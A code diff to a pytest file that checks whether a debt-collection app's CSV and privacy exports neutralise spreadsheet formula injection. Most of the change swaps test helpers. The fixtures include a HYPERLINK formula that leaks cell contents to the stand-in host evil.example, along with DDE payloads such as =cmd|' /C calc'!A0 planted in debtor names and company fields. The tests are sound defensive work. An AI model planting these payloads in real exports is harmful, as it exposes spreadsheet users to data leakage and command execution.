@@ -13,13 +13,14 @@ import pytest
 from sqlalchemy import select
 from sqlalchemy.orm import Session
 
+from relance.conversations.repository import conversation_for_debtor
 from relance.csv_export import csv_bytes, safe_cell
 from relance.db.base import utcnow
 from relance.db.models import Debtor
 from relance.evidence.service import build_pack
 from relance.portfolio.importer import import_rows
 from relance.privacy.export import build_export
-from tests.relance.dunning.helpers import add_message, make_debtor, make_invoice
+from tests.factories import make_debtor, make_invoice, make_message
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for your receipt")'
 PAYLOADS = (
@@ -78,8 +79,12 @@ def _debtor_with_payloads(db: Session) -> Debtor:
     assert not getattr(report, "errors", None)
     debtor = db.scalars(select(Debtor).where(Debtor.customer_number == "INJ-001")).one()
     assert debtor.company == "=cmd|' /C calc'!A0"
-    message = add_message(
-        db, debtor, channel="sms", direction="inbound", at=utcnow() - timedelta(hours=1)
+    message = make_message(
+        db,
+        conversation_for_debtor(db, debtor),
+        channel="sms",
+        direction="inbound",
+        created_at=utcnow() - timedelta(hours=1),
     )
     message.body = HYPERLINK
     db.flush()
@@ -112,7 +117,12 @@ def test_privacy_export_csvs_carry_no_live_formula(db: Session, tmp_path: Path) 
 
 def test_every_debtor_row_export_goes_through_the_safe_writer(db: Session) -> None:
     """A second debtor with a different payload: the writer does not depend on the column."""
-    debtor = make_debtor(db, company="@SUM(1+9)*cmd|' /C calc'!A0", name="-2+3+cmd|' /C calc'!A0")
+    debtor = make_debtor(
+        db,
+        company="@SUM(1+9)*cmd|' /C calc'!A0",
+        name="-2+3+cmd|' /C calc'!A0",
+        channels=("sms", "whatsapp"),
+    )
     make_invoice(db, debtor, due=utcnow().date(), number="+F-1")
     archive = zipfile.ZipFile(io.BytesIO(build_export(db, debtor, actor="test")))
     _assert_inert(archive, "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+F-1")
